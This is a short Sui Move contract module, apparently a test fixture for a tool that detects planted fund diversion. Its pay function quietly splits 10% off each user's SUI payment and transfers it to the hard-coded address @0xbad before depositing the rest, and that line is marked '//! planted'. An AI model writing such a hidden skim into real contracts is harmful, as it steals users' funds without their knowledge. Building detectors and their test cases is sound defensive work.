module hostile::joined_into_sent_coin;

use sui::balance::{Self, Balance};
use sui::coin::{Self, Coin};
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut payment = payment;
    let mut pot = coin::zero<SUI>(ctx);
    let share = payment.value() / 10;
    pour(&mut payment, &mut pot, share, ctx); //! planted
    transfer::public_transfer(pot, @0xbad);
    jar.money.join(payment.into_balance());
}

fun pour(from: &mut Coin<SUI>, to: &mut Coin<SUI>, amount: u64, ctx: &mut TxContext) {
    let part = from.split(amount, ctx);
    to.join(part)
}
